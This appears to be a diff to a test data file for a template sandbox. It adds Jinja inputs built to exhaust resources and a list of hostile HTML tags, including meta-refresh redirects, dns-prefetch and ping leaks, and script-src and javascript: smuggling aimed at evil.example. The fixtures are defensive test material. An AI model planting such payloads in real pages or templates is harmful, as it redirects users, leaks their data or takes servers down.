@@ -19,6 +19,17 @@ LOOPS = {
     "range": "{{ range(1000000000)|list|length }}",
     "a long range": "{% for i in range(999999999) %}{% endfor %}",
     "loops that compare": doubled("[1]", "[ns.x, ns.x]", "{% for i in range(9999) %}{{ ns.x == ns.x }}{% endfor %}"),
+    "lists that are compared": "{% set a = range(9999)|list %}{% set b = range(9999)|list %}"
+    "{% for i in range(9999) %}{% for j in range(20) %}{% if a == b %}{% endif %}{% endfor %}{% endfor %}",
+    "lists that are looked through": "{% set a = range(9999)|list %}"
+    "{% for i in range(9999) %}{% for j in range(20) %}{% if -1 in a %}{% endif %}{% endfor %}{% endfor %}",
+    "tests that look through": "{% set a = range(9999)|list %}"
+    "{% for i in range(20) %}{{ range(9999)|map('float')|reject('in', a)|list|length }}{% endfor %}",
+    "a list of parts": "{% set names = range(9999)|map('string')|list %}"
+    "{% for i in range(9999) %}{% include names ignore missing %}{% endfor %}",
+    "a list of parts, written": "{% for i in range(9999) %}{% include ['a', 'b'] ignore missing %}{% endfor %}",
+    "parts that are missing": "{% for i in range(9999) %}{% include 'x' ~ i ignore missing %}{% endfor %}",
+    "parts by endless names": "{% for i in range(99) %}{% include './' * i ~ 'x.html' ignore missing %}{% endfor %}",
 }
 
 CALLS = {
@@ -70,6 +81,13 @@ SIZES = {
     "large numbers": "{{ 10 ** 10 ** 8 }}",
     "numbers, multiplied": doubled("99", "ns.x * ns.x"),
     "numbers, written": "{{ '9' * 100000 }}{{ ('9' * 1000000)|int }}",
+    "a number of many letters": "{{ ('f' * 299000)|int(base=16) }}",
+    "numbers, divided": "{% set n = ('f' * 299000)|int(base=16) %}{% set m = ('e' * 150000)|int(base=16) %}"
+    "{% for i in range(99) %}{% if n // m %}{% endif %}{% endfor %}",
+    "numbers, divided by": "{{ 3 % ('f' * 299000)|int(base=16) }}",
+    "numbers from floats": "{{ 1e300|int }}",
+    "a number, written out": "{% set n = 0x" + "f" * 90_000 + " %}{% for i in range(9999) %}{{ n // 7 }}{% endfor %}",
+    "numbers, summed": "{{ [9223372036854775807, 1]|sum }}",
     "a number, rounded up": "{{ 1.5|round(100000000, 'ceil') }}",
     "output without an end": "{% for a in range(9999) %}{% for b in range(9999) %}{{ 'x' * 999 }}{% endfor %}"
     "{% endfor %}",
@@ -82,6 +100,11 @@ SIZES = {
     "letters of a long text": "{{ ('a ' * 400000)|list|length }}",
     "a language of many parts": "{{ ('a-' * 100000)|direction }}",
     "Markdown that is slow": "{% for i in range(99) %}{{ ('[' * 60000 ~ i)|markdown|length }}{% endfor %}",
+    "Markdown as long as may be": "{% for i in range(99) %}{{ ('![' * 19000 ~ i)|markdown|length }}{% endfor %}",
+    "Markdown of markup": "{% set x %}{{ '![' * 140000 }}{% endset %}{{ x|markdown|length }}",
+    "markup in a filter": "{% set x %}{{ 'x ' * 400000 }}{% endset %}{{ x|slug|length }}",
+    "a template of many parts": "{{ 1 + 1 + 1 + 1 + 1 }}" * 4_000,
+    "forms": "{% for i in range(9999) %}{{ ('%s' * 9000 ~ i) % i }}{% endfor %}",
     "sorted letters": doubled("['ab' * 100]", "ns.x + ns.x", "{{ ns.x|sort|length }}{{ ns.x|groupby(0)|length }}"),
     "sums of lists": "{{ range(9999)|map('list')|sum(start=[]) }}",
     "deep brackets": "{{ " + "(" * 3_000 + "1" + ")" * 3_000 + " }}",
@@ -121,3 +144,39 @@ NEVER_GIVEN = [
     *("[1].append(2)", "{}.update(a=1)", "{}.setdefault(1, 2)", "1 is callable", "'upper' is filter"),
 ]
 """What Jinja has and a theme has not."""
+
+TAGS = [
+    '<meta name=">" http-equiv="refresh" content="0;url=https://evil.example/">',
+    '<link title=">" rel=dns-prefetch href="//amina.evil.example">',
+    '<script x=">" src="theme/evil.txt"></script>',
+    "<meta name='>' http-equiv='refresh'>",
+    '<p title="<"><meta http-equiv="refresh" content="0;url=https://evil.example/">',
+    *('<script src="theme/evil.txt"></script>', '<script src="theme/switches.js?x"></script>', "<script></script>"),
+    '<script src="theme/players.js" type="speculationrules"></script>',
+    '<script src="theme/evil.txt" src="theme/players.js"></script>',
+    '<svg><script href="theme/evil.txt"/></svg>',
+    '<svg><script xlink:href="theme/evil.txt" src="theme/players.js"/></svg>',
+    *('<SCRIPT\fSRC="theme/evil.txt"></SCRIPT>', '<script/src="theme/evil.txt"></script>', "<script\0src=x></script>"),
+    '<meta/http-equiv="refresh"/content="0;url=https://evil.example/">',
+    '<meta\fhttp-equiv="refresh" content="0;url=https://evil.example/">',
+    '<meta name="a"http-equiv="refresh" content="0;url=https://evil.example/">',
+    '<meta name="referrer" content="unsafe-url">',
+    '<a referrerpolicy="unsafe-url" href="a.html">',
+    *("<!-- > --><meta http-equiv=refresh>", "<!--><meta http-equiv=refresh>-->", "<!-- <base href=x> -->", "<!-->"),
+    *("<![CDATA[ x ]]>", "<?xml x?>", "<!doctype html>", "</p x>", "<>", "< p>"),
+    '<svg><a xlink:href="https://evil.example/?Amina">x</a></svg>',
+    '<svg><a href="a.html"><animate attributeName="href" values="https://evil.example/"/></a></svg>',
+    '<svg><use xml:base="https://evil.example/" href="a.svg"/></svg>',
+    *('<base href="//evil.example">', '<BASE target="x">', '<object data="a.svg"></object>', '<embed src="a.svg">'),
+    *('<iframe srcdoc="&lt;script&gt;"></iframe>', "<frame src=a.html>", "<portal src=a.html>", "<style>a {}</style>"),
+    *('<form action="https://evil.example/">', '<button formaction="https://evil.example/">', "<template>", "<math>"),
+    *('<a ping="https://evil.example/" href="a.html">', '<a target="_blank" href="https://evil.example/?Amina">a</a>'),
+    *('<a href="//evil.example">', '<a href="\\\\evil.example">', "<a href=https:evil.example>", '<a href="/x">'),
+    *('<a href="&#47;&#47;evil.example">', "<a href=' https://evil.example'>", '<a href="java\tscript:alert(1)">'),
+    *('<a href="mailto:evil@example.org?body=Amina">', '<area href="https://evil.example/">', "<p onclick=x>"),
+    *('<body data-root="https://evil.example/?">', '<img name="body" data-root="//evil.example/">'),
+    *('<link rel="dns&#45;prefetch" href="a.css">', '<link rel="stylesheet">', '<link rel="manifest" href="a.txt">'),
+    '<link rel="dns-prefetch" rel="icon" href="a.png">',
+    "<a href=\"'https://evil.example/'\">a</a>",
+]
+"""Each could lead the reader out, run something, or be read by a browser as another tag than it seems to be."""
